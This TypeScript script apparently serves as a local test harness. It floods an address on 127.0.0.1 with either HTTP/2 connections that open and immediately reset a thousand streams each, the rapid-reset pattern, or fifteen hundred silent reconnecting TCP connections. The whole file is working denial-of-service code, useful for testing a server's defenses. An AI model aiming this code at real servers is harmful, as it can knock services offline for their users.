import net from 'node:net';
import tls from 'node:tls';

/**
 * A crowd of one address, for five seconds. Arguments: what, port, name
 *
 * `resets`: ten connections of HTTP/2 that each open a thousand streams and take them back in the same breath (RFC 9113 §10.5)
 * `silent`: fifteen hundred connections that say nothing, each begun anew when it is closed, at most twice
 */
const [what, port = '0', name = ''] = process.argv.slice(2);
const from = '127.0.0.5';

if (what === 'resets') for (let count = 0; count < 10; count += 1) takeBack();
else for (let count = 0; count < 1500; count += 1) staySilent(2);
setTimeout(() => process.exit(0), 5000);

function takeBack(): void {
  const streams = Array.from({ length: 1000 }, (_, index) => taken(1 + 2 * index));
  const all = Buffer.concat([
    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    frame(4, 0, 0, Buffer.alloc(0)),
    ...streams,
  ]);
  const options = { servername: name, rejectUnauthorized: false, ALPNProtocols: ['h2'], localAddress: from };
  const socket = tls.connect({ host: '127.0.0.1', port: Number(port), ...options } as tls.ConnectionOptions);
  socket.on('error', () => undefined);
  socket.once('secureConnect', () => socket.write(all));
  socket.resume();
}

function staySilent(times: number): void {
  const socket = net.connect({ host: '127.0.0.1', port: Number(port), localAddress: from });
  socket.on('error', () => undefined);
  socket.on('close', () => {
    if (times > 0) staySilent(times - 1);
  });
  socket.resume();
}

/** Without any compression (RFC 7541 §6.2.2). */
function taken(id: number): Buffer {
  const text = (one: string): Buffer => Buffer.concat([Buffer.from([one.length]), Buffer.from(one)]);
  const head = { ':method': 'GET', ':scheme': 'https', ':path': '/', ':authority': name };
  const lines = Object.entries(head).flatMap(([key, value]) => [Buffer.from([0]), text(key), text(value)]);
  return Buffer.concat([frame(1, 5, id, Buffer.concat(lines)), frame(3, 0, id, Buffer.from([0, 0, 0, 8]))]);
}

function frame(type: number, flags: number, id: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}
